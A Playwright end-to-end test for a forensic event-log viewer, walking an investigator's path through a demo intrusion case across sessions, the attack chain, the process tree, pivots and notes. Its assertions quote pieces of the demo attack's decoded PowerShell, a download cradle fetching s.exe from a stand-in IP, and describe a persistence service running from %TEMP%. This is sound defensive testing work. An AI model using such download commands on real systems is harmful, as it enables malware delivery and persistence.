// The investigator's path through the views, in Debian's Chromium against `chainline serve` on
// the demo case: the suspicious session first, its six-step chain, the process tree with the
// decoded PowerShell under cmd.exe, a LogonId pivot, a bookmark and note on the 7045 that
// survive restarting the server on the same case. Screenshots of each view at 1440×900 go to
// e2e-artifacts/ (kept out of git) to be looked at.

import { mkdirSync, rmSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { a11yProblems } from './a11y.js';
import { startServe, type ServeHandle } from './serve-fixture.js';

const ARTIFACTS = resolve(import.meta.dirname, '..', 'e2e-artifacts');
let serve: ServeHandle | null = null;
let dataDir = '';

test.beforeAll(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  serve = await startServe([], {}, { keepDataDir: true });
  dataDir = serve.dataDir;
  await serve.waitForIngest();
});

test.afterAll(async () => {
  await serve?.stop();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: join(ARTIFACTS, `${name}.png`) });
}


test('the investigator’s path: sessions → chain → tree → pivot → bookmark and note → reopen', async ({ page }) => {
  test.setTimeout(180_000);
  const s = serve!;
  // The strict CSP (no 'unsafe-inline') must hold: no violation while walking every view.
  const cspViolations: string[] = [];
  const pageErrors: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
  });
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.goto(s.url);

  // 1. The suspicious session is first: jdoe's network logon from 203.0.113.47 (or its runas /netonly child).
  const first = page.getByTestId('session-row').first();
  await expect(first).toBeVisible();
  await expect(first).toContainText('jdoe');
  await expect(first).toContainText(/203\.0\.113\.47|type 9/);
  const attacker = page.locator('[data-testid="session-row"]', { hasText: '203.0.113.47' });
  const rows = page.getByTestId('session-row');
  const index = await rows.evaluateAll((els) => els.findIndex((e) => (e.textContent ?? '').includes('203.0.113.47')));
  expect(index).toBeLessThanOrEqual(1);
  // The look-alike SCCM logons (type 3, admin, internal) rank below both attacker sessions.
  const sccm = await rows.evaluateAll((els) => els.findIndex((e) => (e.textContent ?? '').includes('svc_sccm')));
  expect(sccm).toBeGreaterThan(1);
  await shot(page, '01-sessions');
  expect(await a11yProblems(page)).toEqual([]);

  // 2. Its chain shows the six steps of the story.
  await attacker.click();
  const chain = page.getByTestId('chain-view');
  await expect(chain).toBeVisible();
  const keySteps = chain.getByTestId('chain-step');
  await expect(keySteps).toHaveCount(6);
  expect(await keySteps.evaluateAll((els) => els.map((e) => e.getAttribute('data-role')))).toEqual([
    'entry', 'new-session', 'encoded-powershell', 'script', 'user-writable-exec', 'service',
  ]);
  await expect(keySteps.nth(0)).toContainText('type 3');
  await expect(keySteps.nth(1)).toContainText('type 9');
  await expect(keySteps.nth(2)).toContainText('powershell.exe -enc');
  await expect(keySteps.nth(2).getByTestId('chain-decoded')).toContainText("$u='http://203.0.113.47/s.exe'");
  await expect(keySteps.nth(3)).toContainText('4104');
  await expect(keySteps.nth(4)).toContainText('upd.exe');
  await expect(keySteps.nth(5)).toContainText('WinUpdHelper');
  // A step's record opens in the event detail.
  await keySteps.nth(3).getByTestId('chain-record').click();
  await expect(page.getByTestId('event-detail')).toContainText('ScriptBlockText');
  await shot(page, '02-chain');
  expect(await a11yProblems(page)).toEqual([]);
  await chain.getByTestId('chain-all').click();
  expect(await chain.getByTestId('chain-step').count()).toBeGreaterThan(20);

  // 3. The tree: powershell.exe under cmd.exe (PID 9124), with its decoded command.
  await page.getByTestId('view-tab-tree').click();
  const tree = page.getByTestId('process-tree');
  await expect(tree).toBeVisible();
  const ps = tree.locator('[data-testid="tree-row"][data-image="powershell.exe"]');
  await expect(ps).toHaveCount(1);
  const parentId = await ps.getAttribute('data-parent-id');
  const parent = tree.locator(`[data-testid="tree-row"][data-process-id="${parentId}"]`);
  await expect(parent).toHaveAttribute('data-image', 'cmd.exe');
  await expect(parent).toContainText('9124 (0x23a4)');
  await expect(ps).toHaveAttribute('aria-level', String(Number(await parent.getAttribute('aria-level')) + 1));
  await expect(ps).toContainText('7996 (0x1f3c)');
  await ps.click();
  await expect(page.getByTestId('process-decoded')).toContainText("(New-Object Net.WebClient).DownloadFile($u,$p)");
  await expect(page.getByTestId('process-detail')).toContainText('pid+time');
  // Keyboard: Left on the open powershell closes it (upd.exe hides), Left again goes to cmd.exe,
  // Left once more closes cmd.exe, Right opens it again, Home goes to the first root.
  await ps.click();
  await page.keyboard.press('ArrowLeft');
  await expect(ps).toHaveAttribute('aria-expanded', 'false');
  await expect(tree.locator('[data-testid="tree-row"][data-image="upd.exe"]')).toHaveCount(0);
  await page.keyboard.press('ArrowRight');
  await expect(tree.locator('[data-testid="tree-row"][data-image="upd.exe"]')).toHaveCount(1);
  await page.keyboard.press('ArrowLeft');
  await page.keyboard.press('ArrowLeft');
  await expect(tree.locator('.tree-row-focused')).toHaveAttribute('data-image', 'cmd.exe');
  await page.keyboard.press('ArrowLeft'); // collapses cmd.exe
  await expect(parent).toHaveAttribute('aria-expanded', 'false');
  await expect(ps).toHaveCount(0);
  await page.keyboard.press('ArrowRight');
  await expect(parent).toHaveAttribute('aria-expanded', 'true');
  await page.keyboard.press('Home');
  await expect(tree.locator('.tree-row-focused')).toHaveAttribute('aria-level', '1');
  // Search finds the decoded download inside the tree.
  await page.getByTestId('tree-search').fill('203.0.113.47');
  await expect(tree.locator('[data-match="true"]')).toHaveCount(3); // runas, cmd and powershell carry the payload
  await page.getByTestId('tree-search').fill('');
  await ps.click();
  await shot(page, '03-tree');
  expect(await a11yProblems(page)).toEqual([]);
  // The whole host: the session's processes among those of every other session on WS01 (and of
  // none), the selected powershell still selected; then back to the session's own tree.
  const count = async (): Promise<number> => Number(/^(\d+) processes/.exec((await page.getByTestId('tree-scope-label').innerText()).trim())?.[1]);
  const sessionProcesses = await count();
  await page.getByTestId('tree-scope-host').click();
  await expect(page.getByTestId('tree-scope-label')).toContainText('every session on WS01');
  expect(await count()).toBeGreaterThan(sessionProcesses);
  await expect(ps).toHaveCount(1);
  await expect(ps).toHaveAttribute('aria-selected', 'true');
  await shot(page, '03b-host-tree');
  expect(await a11yProblems(page)).toEqual([]);
  await page.getByTestId('tree-scope-session').click();
  expect(await count()).toBe(sessionProcesses);

  // 4. The timeline draws the session's lanes; a click on a mark opens its record.
  await page.getByTestId('view-tab-timeline').click();
  await expect(page.getByTestId('timeline-view')).toBeVisible();
  expect(await page.getByTestId('timeline-mark').count()).toBeGreaterThan(10);
  await shot(page, '04-timeline');
  expect(await a11yProblems(page)).toEqual([]);
  // Wheel-zoom around the attack burst (10:24:51–10:24:56) down to seconds: the axis relabels.
  const svg = page.locator('.timeline-svg');
  const dot = page.locator('.tl-dot-services');
  const box = (await dot.boundingBox())!;
  await page.mouse.move(box.x - 20, box.y);
  for (let i = 0; i < 14; i++) await page.mouse.wheel(0, -100);
  await expect(svg.locator('.tl-tick').first()).toHaveText(/^\d\d:\d\d:\d\d$|^\d\d:\d\d\.\d{3}$/);
  await shot(page, '04b-timeline-zoomed');
  await page.getByRole('button', { name: 'Fit session' }).click();

  // Brushing the case histogram narrows the table to that range.
  const before = Number(await page.getByTestId('filter-total').getAttribute('data-count'));
  const hist = (await page.getByTestId('case-histogram').locator('svg').boundingBox())!;
  await page.mouse.move(hist.x + hist.width * 0.5, hist.y + 10);
  await page.mouse.down();
  await page.mouse.move(hist.x + hist.width * 0.6, hist.y + 10, { steps: 5 });
  await page.mouse.up();
  await expect(page.getByTestId('clear-time-range')).toBeVisible();
  await expect
    .poll(async () => Number(await page.getByTestId('filter-total').getAttribute('data-count')))
    .toBeLessThan(before);
  await page.getByTestId('clear-time-range').click();
  await expect.poll(async () => Number(await page.getByTestId('filter-total').getAttribute('data-count'))).toBe(before);

  // 5. Pivot on the LogonId: the table shows the events that name 0x5a3c1e.
  await page.getByTestId('view-tab-chain').click();
  await page.locator('.session-header [data-pivot-kind="logonId"]').click();
  await expect(page.getByTestId('filter-text')).toHaveValue('0x5a3c1e');
  await expect
    .poll(async () => Number(await page.getByTestId('filter-total').getAttribute('data-count')))
    .toBeGreaterThan(5);
  const summaries = await page.getByTestId('event-row').evaluateAll((els) => els.length);
  expect(summaries).toBeGreaterThan(5);
  await shot(page, '05-pivot');
  // Back returns to the unfiltered table; forward re-applies the pivot.
  await page.keyboard.press('Alt+ArrowLeft');
  await expect(page.getByTestId('filter-text')).toHaveValue('');
  await page.getByTestId('nav-forward').click();
  await expect(page.getByTestId('filter-text')).toHaveValue('0x5a3c1e');

  // 6. Bookmark the 7045 and add a note.
  await page.getByTestId('filter-text').fill('');
  await page.getByTestId('filter-eventid').fill('7045');
  const svc = page.locator('[data-testid="event-row"][data-eventid="7045"]', { hasText: 'WinUpdHelper' });
  await svc.click();
  const detail = page.getByTestId('event-detail');
  await expect(detail).toContainText('WinUpdHelper');
  await detail.getByTestId('bookmark-toggle').click();
  await expect(detail.getByTestId('bookmark-toggle')).toHaveAttribute('aria-pressed', 'true');
  await detail.getByTestId('note-open').click();
  await detail.getByTestId('note-tags').fill('persistence, T1543.003');
  await detail.getByTestId('note-text').fill('Service runs upd.exe from %TEMP% as LocalSystem <b>not bold</b>');
  await detail.getByTestId('note-save').click();
  await page.getByTestId('side-tab-notes').click();
  const note = page.getByTestId('note-item').first();
  await expect(note).toContainText('Service runs upd.exe from %TEMP%');
  await expect(note).toContainText('<b>not bold</b>');
  await shot(page, '06-notes');
  expect(await a11yProblems(page)).toEqual([]);

  // 7. Coverage and the dark theme.
  await page.getByTestId('side-tab-coverage').click();
  await expect(page.getByTestId('coverage')).toContainText('Channels per host');
  await page.getByTestId('theme-toggle').click();
  await shot(page, '07-coverage-dark');
  await page.getByTestId('theme-toggle').click();

  // 8. Restart the server on the same case folder: the note is still there.
  await s.stop();
  serve = await startServe([], {}, { dataDir, keepDataDir: true });
  await serve.waitForIngest();
  await page.goto(serve.url);
  await page.getByTestId('side-tab-notes').click();
  const again = page.getByTestId('note-item').first();
  await expect(again).toContainText('Service runs upd.exe from %TEMP%');
  await expect(again).toContainText('persistence');
  await expect(again.locator('.bookmarked')).toBeVisible();
  await again.getByRole('button', { name: /7045/ }).click();
  await expect(page.getByTestId('event-detail')).toContainText('WinUpdHelper');
  await shot(page, '08-reopened');
  expect(cspViolations).toEqual([]);
  expect(pageErrors).toEqual([]);
  // The 7045's detail names no LogonId; the 4697 beside it does (SubjectLogonId 0x5a4f02), and
  // jumps from there to the runas /netonly session.
  await page.getByTestId('filter-eventid').fill('4697');
  await page.locator('[data-testid="event-row"][data-eventid="4697"]').first().click();
  await page.getByTestId('event-detail').getByTestId('pivot-session').first().click();
  await expect(page.getByTestId('session-view')).toHaveAttribute('data-session-id', /s\d+/);
  await expect(page.locator('.session-header')).toContainText('0x5a4f02');

  // Times switch from UTC to a chosen offset everywhere (and back).
  await expect(page.locator('.session-header')).toContainText('10:24:51 Z');
  await page.getByTestId('zone-select').selectOption('fixed');
  await page.getByLabel('UTC offset, like +05:30').fill('+02:00');
  await expect(page.locator('.session-header')).toContainText('12:24:51 +02:00');
  await expect(page.getByTestId('event-row').first()).toContainText('+02:00');
  await shot(page, '09-offset');
  await page.getByTestId('zone-select').selectOption('utc');
  await expect(page.locator('.session-header')).toContainText('10:24:51 Z');

  // Find anything by name: Ctrl+K, "upd" finds upd.exe twice (jdoe ran it, then the service
  // did); Enter on the first opens it in its session's tree. The note is found too.
  await page.keyboard.press('Control+k');
  const palette = page.getByTestId('command-palette');
  await expect(palette).toBeVisible();
  await page.getByTestId('palette-input').fill('upd');
  const updHit = palette.locator('[data-testid="palette-item"][data-kind="process"]', { hasText: 'upd.exe' });
  await expect(updHit).toHaveCount(2);
  await expect(updHit.first()).toContainText('jdoe');
  await expect(palette.locator('[data-testid="palette-item"][data-kind="note"]')).toContainText('WinUpdHelper');
  await shot(page, '10-palette');
  expect(await a11yProblems(page)).toEqual([]);
  // Arrow down to the process, then Enter.
  const kinds = await palette.getByTestId('palette-item').evaluateAll((els) => els.map((e) => e.getAttribute('data-kind')));
  for (let i = 0; i < kinds.indexOf('process'); i++) await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(palette).toHaveCount(0);
  await expect(page.getByTestId('process-detail')).toHaveAttribute('data-process-id', /.+/);
  await expect(page.getByTestId('process-detail')).toContainText('upd.exe');
  await expect(page.locator('[data-testid="tree-row"][aria-selected="true"]')).toHaveAttribute('data-image', 'upd.exe');
  // A user name finds their sessions; Escape closes without going anywhere.
  await page.getByTestId('open-palette').click();
  await page.getByTestId('palette-input').fill('asmith');
  await expect(palette.locator('[data-testid="palette-item"][data-kind="session"]').first()).toContainText('asmith');
  await page.keyboard.press('Escape');
  await expect(palette).toHaveCount(0);
  expect(pageErrors).toEqual([]);
});
